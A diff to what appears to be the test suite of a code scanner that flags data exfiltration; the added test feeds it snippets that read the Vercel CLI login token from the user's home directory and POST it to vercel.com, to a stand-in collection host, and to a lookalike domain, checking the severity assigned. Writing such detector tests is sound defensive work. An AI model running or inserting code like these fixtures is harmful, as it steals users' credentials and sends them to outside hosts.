@@ -47,6 +47,16 @@ describe('correlation: exfiltration', () => {
     assert.equal(found[0].column, code.split('\n')[1].indexOf('req.write') + 1);
   });
 
+  it("sends a CLI's login token to the service that issued it at medium, and to any other host at high (aicommits' bundled Vercel OIDC refresh)", () => {
+    const head = 'const fs=require("fs"),p=require("path"),o=require("os");function tok(){return JSON.parse(fs.readFileSync(p.join(o.homedir(),".local","share","com.vercel.cli","auth.json"),"utf8")).token}\n';
+    const issuer = only('exfiltration', `${head}async function r(){return fetch("https://vercel.com/oauth/token",{method:"POST",body:tok()})}`);
+    assert.deepEqual(issuer.map(f => [f.severity, f.message]), [['medium', 'Sends Vercel CLI login token (com.vercel.cli/auth.json) in a network request to vercel.com (the service that issued it)']]);
+    const elsewhere = only('exfiltration', `${head}async function r(){return fetch("https://collect.example.io/t",{method:"POST",body:tok()})}`);
+    assert.deepEqual(elsewhere.map(f => f.severity), ['high']);
+    const lookalike = only('exfiltration', `${head}async function r(){return fetch("https://vercel.com.example.io/t",{method:"POST",body:tok()})}`);
+    assert.deepEqual(lookalike.map(f => f.severity), ['high'], 'a host that only starts with the issuer is elsewhere');
+  });
+
   it('is medium when only identifiers (host name, machine id) meet a network call', () => {
     const code = 'const os=require("os");function t(){const h=os.hostname();navigator.sendBeacon("/t",h)}';
     assert.equal(only('exfiltration', code)[0].severity, 'medium');
